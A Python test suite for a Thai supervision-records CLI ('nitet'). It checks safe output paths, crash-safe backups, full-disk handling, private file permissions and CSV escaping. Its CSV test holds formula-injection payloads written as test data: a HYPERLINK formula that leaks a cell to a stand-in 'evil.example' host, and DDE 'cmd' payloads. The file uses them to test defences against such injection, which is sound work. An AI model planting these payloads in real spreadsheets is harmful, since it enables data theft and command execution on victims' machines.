"""Issue 9, the files nitet writes: never over the database, its store or what is being read
(item 1); a killed backup leaves the previous one whole (item 3); a full disk is one sentence
and the old file (output side of item 10); every output is private (item 12); no CSV cell is
a formula (item 13)."""

from __future__ import annotations

import csv
import io
import os
import resource
import signal
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import Nitet
from hypothesis import given
from hypothesis import strategies as st
from stress_data import SMALL_MANUAL, add_entry, init_db

import nitet_cli
from nitet_cli.activities import EvidenceInput, NewActivity, add_activity
from nitet_cli.maintenance import doctor, open_existing
from nitet_cli.paths import evidence_dir

TESTS = Path(__file__).resolve().parent
SRC = Path(nitet_cli.__file__).resolve().parent.parent  # the children run the same sources as the tests


def photo(path: Path, seed: int, size: int = 20_000) -> Path:
    """A real JPEG (so the report embeds it), different for each seed."""
    from PIL import Image

    image = Image.new("RGB", (64, 48), (seed * 40 % 256, 90, 160))
    image.save(path, "JPEG")
    path.write_bytes(path.read_bytes() + bytes([seed % 256]) * size)  # bigger, still a JPEG
    return path


@pytest.fixture
def filled(nitet, tmp_path):
    """A database with three entries in term 2/2569 and two stored photos."""
    conn = init_db(nitet.db_path)
    a = photo(tmp_path / "ภาพ๑.jpg", 1)
    b = photo(tmp_path / "ภาพ๒.jpg", 2)
    add_entry(conn, nitet.db_path, 1, evidence=[EvidenceInput(path=a, caption="ครูสอน")])
    add_entry(conn, nitet.db_path, 2, evidence=[EvidenceInput(path=b)])
    add_entry(conn, nitet.db_path, 3)
    conn.close()
    nitet.shas = [r[0] for r in nitet.query("SELECT DISTINCT sha256 FROM evidence WHERE kind = 'file' ORDER BY sha256")]
    return nitet


def files_under(folder: Path) -> dict[str, bytes | None]:
    """Every file and folder under ``folder`` with its bytes (None for a folder or link), to prove nothing changed."""
    found: dict[str, bytes | None] = {}
    for path in sorted(folder.rglob("*")):
        rel = str(path.relative_to(folder))
        if path.is_symlink():
            found[rel] = f"-> {os.readlink(path)}".encode()
        elif path.is_dir():
            found[rel] = None
        else:
            found[rel] = path.read_bytes()
    return found


def temporaries(folder: Path) -> list[Path]:
    return [p for p in folder.rglob(".*") if ".tmp" in p.name or p.name.startswith(".incoming-")]


def checked(db: Path):
    """``doctor`` on ``db``, its connection closed at once (an open one leaves a -wal beside the file)."""
    conn = open_existing(db)
    try:
        return doctor(conn, db)
    finally:
        conn.close()


def one_sentence(result, exit_code: int = 5) -> str:
    assert result.exit_code == exit_code, result.output
    assert "Traceback" not in result.output and "Exception ignored" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("ข้อผิดพลาด: "), result.stderr
    return lines[0]


# --- item 1: an output is never the database, its store or the file being read ----------------

#: Each command that writes a file, with "{out}" where its output path goes.
WRITERS = {
    "report docx": ["report", "--term", "2", "-o", "{out}"],
    "report json": ["report", "--term", "2", "--format", "json", "-o", "{out}"],
    "export json": ["export", "--format", "json", "-o", "{out}"],
    "export csv": ["export", "--format", "csv", "-o", "{out}"],
    "export schools csv": ["export", "--format", "csv", "--what", "schools", "-o", "{out}"],
    "manual export": ["manual", "export", "-o", "{out}"],
    "template export": ["template", "export", "report", "{out}", "--force"],
}
#: What the output may be made to be: the database and everything that belongs to it.
TARGETS = {
    "the database": lambda db: db,
    "its -wal": lambda db: Path(f"{db}-wal"),
    "its -shm": lambda db: Path(f"{db}-shm"),
    "its -journal": lambda db: Path(f"{db}-journal"),
    "its evidence store": lambda db: evidence_dir(db),
    "a stored evidence file": lambda db: next(p for p in evidence_dir(db).rglob("*") if p.is_file()),
    "a new file in the store": lambda db: evidence_dir(db) / "ab" / "new.docx",
    "a symlink to the database": lambda db: _link(db, "link.docx", symbolic=True),
    "a hard link to the database": lambda db: _link(db, "hard.docx", symbolic=False),
    "a symlink into the store": lambda db: _link(evidence_dir(db), "store-link", symbolic=True) / "x.docx",
}


def _link(target: Path, name: str, *, symbolic: bool) -> Path:
    link = target.parent / name
    if not os.path.lexists(link):
        (os.symlink if symbolic else os.link)(target, link)
    return link


@pytest.mark.parametrize("writer", list(WRITERS))
@pytest.mark.parametrize("what", list(TARGETS))
def test_no_output_overwrites_the_database_or_its_store(filled, tmp_path, writer, what):
    (evidence_dir(filled.db_path) / "ab").mkdir(exist_ok=True)
    out = TARGETS[what](filled.db_path)
    if writer == "template export" and out.suffix != ".docx" and not out.is_dir():
        pytest.skip("template export names .docx files or folders only (anything else is refused anyway)")
    before_rows = filled.snapshot()
    before_files = files_under(tmp_path)
    args = [a.replace("{out}", str(out)) for a in WRITERS[writer]]
    line = one_sentence(filled(*args, ok=False))
    assert "ไม่เขียนทับ" in line and str(out) in line
    assert files_under(tmp_path) == before_files  # nothing written, not even a temporary file
    assert filled.snapshot() == before_rows
    report = checked(filled.db_path)
    assert report.ok and not report.warnings, [p.message for p in report.problems]


@pytest.mark.parametrize(
    "what", ["a symlink to the database", "a hard link to the database", "a symlink into the store"]
)
def test_zip_export_never_overwrites_the_database(filled, tmp_path, what):
    out = TARGETS[what](filled.db_path)
    out = out.rename(out.with_suffix(".zip")) if os.path.lexists(out) else out.with_suffix(".zip")
    before = files_under(tmp_path)
    line = one_sentence(filled("export", "-o", out, ok=False))
    assert "ไม่เขียนทับ" in line
    assert files_under(tmp_path) == before


def test_a_template_is_never_overwritten_by_what_it_renders(filled, tmp_path):
    mine = tmp_path / "แม่แบบของฉัน.docx"
    filled("template", "export", "report", mine)
    os.symlink(mine, tmp_path / "ทางลัด.docx")
    before = files_under(tmp_path)
    for args in (
        ["report", "--template", mine, "-o", mine],
        ["report", "--template", mine, "-o", tmp_path / "ทางลัด.docx"],
        ["manual", "export", "--template", mine, "-o", mine],
        ["manual", "export", "--template", tmp_path / "ทางลัด.docx", "-o", mine],
    ):
        line = one_sentence(filled(*args, ok=False))
        assert "แม่แบบที่ใช้อยู่" in line
    assert files_under(tmp_path) == before


def test_the_pdf_path_is_checked_before_the_docx_is_written(filled, tmp_path):
    """--pdf writes NAME.pdf beside the DOCX: that path is refused before any work, and so is a PDF over the DOCX."""
    os.symlink(filled.db_path, tmp_path / "รายงาน.pdf")
    before = files_under(tmp_path)
    for args in (
        ["report", "--term", "2", "-o", tmp_path / "รายงาน.docx", "--pdf"],
        ["manual", "export", "-o", tmp_path / "รายงาน.docx", "--pdf"],
    ):
        line = one_sentence(filled(*args, ok=False))
        assert "ฐานข้อมูล nitet ที่ใช้อยู่" in line and "รายงาน.pdf" in line
    line = one_sentence(filled("manual", "export", "-o", tmp_path / "คู่มือ.pdf", "--pdf", ok=False))
    assert "เอกสาร DOCX ที่จะแปลงเป็น PDF" in line
    assert files_under(tmp_path) == before


def test_no_output_overwrites_another_sqlite_database(filled, tmp_path):
    other = tmp_path / "กลุ่ม.db"
    init_db(other).close()
    foreign = tmp_path / "notes.sqlite"
    sqlite3.connect(foreign).execute("CREATE TABLE t (x)").connection.close()
    before = files_under(tmp_path)
    for out in (other, foreign):
        line = one_sentence(filled("export", "-o", out, ok=False))
        assert "ฐานข้อมูล SQLite" in line
        line = one_sentence(filled("report", "--term", "2", "-o", out, ok=False))
    assert files_under(tmp_path) == before


def test_template_export_never_overwrites_the_bundled_template(filled, tmp_path, monkeypatch):
    import shutil

    from nitet_cli import render
    from nitet_cli.paths import templates_dir

    folder = tmp_path / "installed-templates"  # a copy: a failing test must not touch the real ones
    shutil.copytree(templates_dir(), folder)
    monkeypatch.setattr(render, "templates_dir", lambda: folder)
    before = (folder / "report.docx").read_bytes()
    line = one_sentence(filled("template", "export", "report", folder, "--force", ok=False))
    assert "แม่แบบในตัว" in line
    assert (folder / "report.docx").read_bytes() == before
    assert not list(folder.glob(".*.tmp"))


# --- item 1: backup onto a database that is not a backup of this one ---------------------------


def test_backup_never_overwrites_another_database(filled, tmp_path):
    someone = tmp_path / "เพื่อน.db"
    init_db(someone).close()  # another person's database: another owner UUID
    group = tmp_path / "group.db"
    init_db(group).close()
    conn = sqlite3.connect(group)
    conn.execute("UPDATE supervisors SET is_self = 0")  # a group database has no owner
    conn.commit()
    conn.close()
    foreign = tmp_path / "other-program.db"
    sqlite3.connect(foreign).execute("CREATE TABLE t (x)").connection.close()
    text = tmp_path / "notes.db"
    text.write_text("บันทึกส่วนตัว", encoding="utf-8")
    before = files_under(tmp_path)
    for target, why in (
        (someone, "เป็นฐานข้อมูล nitet ของ นางสาวทดสอบ ระบบดี"),
        (group, "เป็นฐานข้อมูล nitet รวมของกลุ่ม"),
        (foreign, "เป็นฐานข้อมูลของโปรแกรมอื่น"),
        (text, "เป็นไฟล์อื่นที่ไม่ใช่ฐานข้อมูล"),
    ):
        line = one_sentence(filled("backup", target, ok=False))
        assert why in line and "ไม่ใช่ไฟล์สำรองของ" in line and str(target) in line
    for target in (
        evidence_dir(filled.db_path),
        evidence_dir(filled.db_path) / "ชุดสำรอง.db",
        filled.db_path.with_suffix(".sqlite"),
    ):
        line = one_sentence(filled("backup", target, ok=False))
        assert "ที่เก็บหลักฐาน" in line
    assert files_under(tmp_path) == before


@pytest.mark.parametrize("suffix", ["-journal", "-wal", "-shm"])
def test_backup_never_makes_a_folder_named_like_a_file_of_the_database(filled, tmp_path, suffix):
    """`backup nitet.db-journal` would make a FOLDER there: SQLite then cannot open the database at all."""
    folder = Path(f"{filled.db_path}{suffix}")
    before = files_under(tmp_path)
    line = one_sentence(filled("backup", folder, ok=False))
    assert str(folder) in line and suffix[1:] in line
    assert not os.path.lexists(folder)
    assert files_under(tmp_path) == before
    filled("list")  # the database still opens


def test_backup_refreshes_its_own_earlier_backup_also_for_a_group_database(filled, tmp_path):
    filled("backup", tmp_path / "bk.db")
    conn = init_db(filled.db_path)
    add_entry(conn, filled.db_path, 4)
    conn.close()
    assert filled.json("backup", tmp_path / "bk.db")["activities"] == 4  # the same owner: replaced

    group = tmp_path / "group.db"
    runner = Nitet(group)
    runner("merge", filled.db_path)
    runner("backup", tmp_path / "group-bk.db")
    other = tmp_path / "อีกคน.db"
    init_db(other).close()
    runner("merge", other)  # one more person: the old backup's people are all still here
    assert runner.json("backup", tmp_path / "group-bk.db")["ok"]
    line = one_sentence(filled("backup", tmp_path / "group-bk.db", ok=False))  # but not my database over the group's
    assert "รวมของกลุ่ม" in line


# --- item 3: a killed backup leaves the previous backup whole ---------------------------------

KILLED_BACKUP = r"""
import os, shutil, sys, time
from pathlib import Path
from nitet_cli.maintenance import backup, open_existing
db, target, step = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3]

def pause():
    print("MID", flush=True)
    time.sleep(600)

copyfile, replace = shutil.copyfile, os.replace
def half_copy(source, dest, *args, **kwargs):
    with open(source, "rb") as src, open(dest, "wb") as out:
        out.write(src.read(1000))
    pause()
def paused_replace(source, dest, *args, **kwargs):
    if Path(dest) == target and step == "before the database is renamed":
        pause()
    replace(source, dest, *args, **kwargs)
    if Path(dest) == target and step == "after the database is renamed":
        pause()
if step == "half way through an evidence file":
    shutil.copyfile = half_copy
os.replace = paused_replace
backup(open_existing(db), db, target)
print("finished", flush=True)
"""

KILL_STEPS = ["half way through an evidence file", "before the database is renamed", "after the database is renamed"]


@pytest.mark.parametrize("step", KILL_STEPS)
def test_backup_killed_at_each_step_leaves_a_valid_backup(filled, tmp_path, step):
    target = tmp_path / "usb" / "nitet.db"
    target.parent.mkdir()
    filled("backup", target)
    old = target.read_bytes()
    conn = init_db(filled.db_path)
    add_entry(conn, filled.db_path, 4, evidence=[EvidenceInput(path=photo(tmp_path / "ภาพ๓.jpg", 3, size=200_000))])
    conn.close()

    env = {**os.environ, "PYTHONPATH": f"{SRC}{os.pathsep}{os.environ.get('PYTHONPATH', '')}"}
    child = subprocess.Popen(
        [sys.executable, "-c", KILLED_BACKUP, str(filled.db_path), str(target), step],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    line = child.stdout.readline()
    assert line.strip() == "MID", (line, child.stderr.read())
    os.kill(child.pid, signal.SIGKILL)  # nothing can catch it
    child.wait(timeout=60)
    assert child.returncode == -signal.SIGKILL

    renamed = step == "after the database is renamed"
    if not renamed:
        assert target.read_bytes() == old  # the previous backup, byte for byte
    report = checked(target)
    assert report.ok, [p.message for p in report.problems]  # every file it points to is there
    # What the kill left (a temporary copy, a photo the old copy does not use yet) is a warning
    # that `doctor --fix` may clear; the next backup uses or clears it anyway.
    assert all("doctor --fix" in p.message for p in report.warnings), [p.message for p in report.warnings]
    assert report.activities == (4 if renamed else 3)

    # The next backup finishes the job and clears what the killed one left behind.
    assert filled.json("backup", target)["ok"]
    assert temporaries(target.parent) == []
    report = checked(target)
    assert report.ok and report.problems == [] and report.activities == 4


# --- output side of item 10: a full disk is one sentence, and the old file stays ---------------

#: Each writer with an output that is bigger than the limit below, and the file it replaces.
LIMIT = 34_000  # bytes a process may write into one file (RLIMIT_FSIZE): just above SQLite's 32 KB -shm
#: Each writer, the file it replaces, the limit and the size of a new photo: every output is over the limit.
FULL_DISK = {
    "report docx": (["report", "--term", "2", "-o", "{dir}/out.docx"], "out.docx", LIMIT, 100_000),
    "manual export": (["manual", "export", "-o", "{dir}/out.docx"], "out.docx", LIMIT, 100_000),
    "export json": (["export", "-o", "{dir}/out.json"], "out.json", LIMIT, 100_000),
    "export csv": (["export", "-o", "{dir}/out.csv"], "out.csv", LIMIT, 100_000),
    "export zip": (["export", "-o", "{dir}/out.zip"], "out.zip", LIMIT, 100_000),
    "backup, the database": (["backup", "{dir}/bk.db"], "bk.db", LIMIT, 100_000),
    # the database copy fits, the new photo does not: refused while copying evidence
    "backup, the evidence": (["backup", "{dir}/bk.db"], "bk.db", 2_000_000, 3_000_000),
}


def limited(limit: int):
    def apply():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG) instead of killing
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return apply


def noise_photo(path: Path, seed: int, size: tuple[int, int] = (480, 360)) -> Path:
    """A JPEG of random pixels: it does not compress, so its thumbnail in a report stays big too."""
    import random

    from PIL import Image

    Image.frombytes("RGB", size, random.Random(seed).randbytes(size[0] * size[1] * 3)).save(path, "JPEG", quality=90)
    return path


def long_manual() -> dict:
    """The small manual with long, varied standards (about 20,000 letters that do not compress
    away), so that the manual's DOCX is well over LIMIT too."""
    import copy
    import random

    rng = random.Random(7)
    letters = "กขคงจฉชซญดตถทธนบปผพฟภมยรลวศสหอฮ" + "ะาิีึืุูเแโใไ" + "่้๊๋"
    manual = copy.deepcopy(SMALL_MANUAL)
    for duty in manual["duties"]:
        for standard in duty["standards"]:
            standard["standard"] += " " + " ".join("".join(rng.choices(letters, k=8)) for _ in range(900))
    return manual


@pytest.fixture
def big(filled, tmp_path):
    """Long standards, entries with long findings and a photo of random pixels (about 200 KB):
    every output is well over LIMIT."""
    conn = init_db(filled.db_path, manual=long_manual())
    from datetime import date

    for n in range(40):
        add_activity(
            conn,
            filled.db_path,
            NewActivity(
                date=date(2026, 11, 2),
                title=f"นิเทศ {n}",
                standards=["1.2"],
                schools=["57010001"],
                findings="ครูจัดกิจกรรมการเรียนรู้เชิงรุก " * 20,
            ),
        )
    add_entry(conn, filled.db_path, 50, evidence=[EvidenceInput(path=noise_photo(tmp_path / "ใหญ่.jpg", 9))])
    conn.close()
    return filled


@pytest.mark.parametrize("writer", list(FULL_DISK))
def test_a_full_disk_is_one_sentence_and_the_old_file_stays(big, tmp_path, writer):
    args, name, limit, new_photo = FULL_DISK[writer]
    folder = tmp_path / "out"
    folder.mkdir()
    args = [a.replace("{dir}", str(folder)) for a in args]
    big(*args)  # the old file, written with room to spare
    old = files_under(folder)
    env = {
        **os.environ,
        "PYTHONPATH": f"{SRC}{os.pathsep}{os.environ.get('PYTHONPATH', '')}",
        "NITET_TODAY": "2026-11-24",
    }
    conn = init_db(big.db_path, manual=long_manual())  # the same long manual as big
    add_entry(conn, big.db_path, 60, evidence=[EvidenceInput(path=photo(tmp_path / "ใหม่.jpg", 11, size=new_photo))])
    conn.close()
    result = subprocess.run(
        [sys.executable, "-m", "nitet_cli", "--db", str(big.db_path), *args],
        capture_output=True,
        text=True,
        env=env,
        preexec_fn=limited(limit),
        timeout=300,
    )
    assert result.returncode == 5, (result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("ข้อผิดพลาด: "), (
        result.stderr
    )  # no traceback, no ZipFile.__del__ noise
    assert "ไม่ได้" in lines[0] and "ยังอยู่ครบ" in lines[0]
    assert files_under(folder) == old  # the old file byte for byte, no temporary file
    if name == "bk.db":
        report = checked(folder / name)
        assert report.ok and report.problems == []


def test_disk_full_says_so_in_thai(filled, tmp_path, monkeypatch):
    """ENOSPC itself (which a test cannot make a real disk do) is named as a full disk."""
    out = tmp_path / "ส่งออก.json"
    filled("export", "-o", out)
    old = out.read_bytes()

    def full(self, data):
        Path.write_text(self, "ครึ่งเดียว")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", full)
    line = one_sentence(filled("export", "-o", out, ok=False))
    assert "พื้นที่ดิสก์เต็ม" in line and "ไฟล์เดิมยังอยู่ครบ" in line and str(out) in line
    assert out.read_bytes() == old and temporaries(tmp_path) == []


# --- item 12: every output is readable by its owner only ---------------------------------------


@pytest.fixture
def umask():
    def set_mask(mask: int) -> None:
        os.umask(mask)

    before = os.umask(0o022)
    os.umask(before)
    yield set_mask
    os.umask(before)


def outputs(nitet, folder: Path) -> list[Path]:
    """Every kind of file nitet writes for its user, into ``folder``."""
    nitet("report", "--term", "2", "-o", folder / "report.docx")
    nitet("report", "--term", "2", "--format", "json", "-o", folder / "report.json")
    nitet("export", "-o", folder / "export.json")
    nitet("export", "-o", folder / "export.csv")
    nitet("export", "--format", "csv", "--what", "schools", "-o", folder / "schools.csv")
    nitet("export", "-o", folder / "export.zip")
    nitet("manual", "export", "-o", folder / "manual.docx")
    nitet("template", "export", "report", folder / "template.docx")
    nitet("backup", folder / "backup")
    return sorted(p for p in folder.rglob("*") if p.is_file())


@pytest.mark.parametrize("mask", [0o022, 0o077], ids=["umask 022", "umask 077"])
def test_every_output_is_private(filled, tmp_path, umask, mask):
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "export.json").write_text("{}")
    os.chmod(folder / "export.json", 0o644)  # an old, world-readable file is replaced by a private one
    umask(mask)
    files = outputs(filled, folder)
    assert len(files) == 11  # eight files, the backup's database and its two photos
    modes = {str(p.relative_to(folder)): oct(stat.S_IMODE(p.stat().st_mode)) for p in files}
    assert modes == {name: oct(0o600) for name in modes}


def test_the_umask_narrows_an_output_further_never_widens_it(filled, tmp_path, umask):
    umask(0o277)
    filled("export", "-o", tmp_path / "export.json")
    filled("export", "-o", tmp_path / "export.json")  # over a read-only file of one's own: replaced
    assert oct(stat.S_IMODE((tmp_path / "export.json").stat().st_mode)) == oct(0o400)


# --- item 13: no CSV cell is a formula ----------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_csv_cells_that_would_be_formulas_are_text(filled, tmp_path):
    filled("school", "add", "--code", "57019999", "--name", "=1+1", "--group", "@กลุ่ม")
    conn = init_db(filled.db_path)
    from datetime import date

    evil = photo(tmp_path / "=cmd.jpg", 5)
    add_activity(
        conn,
        filled.db_path,
        NewActivity(
            date=date(2026, 11, 3),
            title=FORMULAS[0],
            standards=["1.2"],
            schools=["57019999"],
            findings=FORMULAS[1],
            suggestions=FORMULAS[2],
            participants=FORMULAS[3],
            teachers=12,
            evidence=[EvidenceInput(path=evil)],
        ),
    )
    conn.close()
    conn = sqlite3.connect(filled.db_path)  # text that reached the database another way (SQL, an old version)
    conn.execute(
        "UPDATE activities SET findings = ?, suggestions = ? WHERE title = 'นิเทศการจัดการเรียนรู้ ครั้งที่ 3'", ("\t=1", "\r=2")
    )
    conn.commit()
    conn.close()

    filled("export", "-o", tmp_path / "กิจกรรม.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "กิจกรรม.csv").read_bytes().decode("utf-8-sig"), newline="")))
    mine = next(r for r in rows if r["ชื่อกิจกรรม"].endswith('"คลิก")'))
    assert mine["ชื่อกิจกรรม"] == "'" + FORMULAS[0]
    assert mine["ผลการนิเทศ"] == "'" + FORMULAS[1]
    assert mine["ข้อเสนอแนะ"] == "'" + FORMULAS[2]
    assert mine["ผู้เข้าร่วม"] == "'" + FORMULAS[3]
    assert mine["โรงเรียน"] == "'=1+1"
    assert mine["หลักฐาน"] == "'=cmd.jpg"
    assert mine["จำนวนครู"] == "12"  # a number nitet writes stays a number
    third = next(r for r in rows if r["ชื่อกิจกรรม"] == "นิเทศการจัดการเรียนรู้ ครั้งที่ 3")
    assert third["ผลการนิเทศ"] == "'\t=1" and third["ข้อเสนอแนะ"] == "'\r=2"
    first_characters = {cell[:1] for row in rows for cell in row.values() if cell}
    assert not first_characters & {"=", "+", "-", "@", "\t", "\r"}

    # The schools CSV is what 'nitet school import' reads: it reads back as it was.
    filled("export", "--format", "csv", "--what", "schools", "-o", tmp_path / "schools.csv")
    text = (tmp_path / "schools.csv").read_text(encoding="utf-8-sig")
    assert "57019999,'=1+1,'@กลุ่ม" in text
    other = Nitet(tmp_path / "อื่น.db")
    init_db(other.db_path, schools=[]).close()
    other("school", "import", tmp_path / "schools.csv")
    assert other.query("SELECT name, school_group FROM schools WHERE code = '57019999'") == [("=1+1", "@กลุ่ม")]


@given(st.text(max_size=30), st.text(alphabet="'=+-@\t\r", max_size=4))
def test_any_text_is_a_safe_csv_cell_and_reads_back(text, start):
    from datetime import date

    from nitet_cli.spreadsheet import ACTIVITY_COLUMNS, csv_text
    from nitet_cli.text import FORMULA_START, from_spreadsheet, spreadsheet_text

    value = start + text
    cell = spreadsheet_text(value)
    assert not cell.startswith(FORMULA_START) and from_spreadsheet(cell) == value
    keys = [c.key for c in ACTIVITY_COLUMNS]
    entry = {**dict.fromkeys(keys, ""), "date": date(2026, 11, 2), "title": value, "findings": value, "teachers": -3}
    row = list(csv.reader(io.StringIO(csv_text(ACTIVITY_COLUMNS, [entry]), newline="")))[1]
    assert all(not c.startswith(FORMULA_START) for c in row if c != "-3")
    assert (
        row[keys.index("title")] == cell and row[keys.index("teachers")] == "-3"
    )  # the title as text; the number, untouched
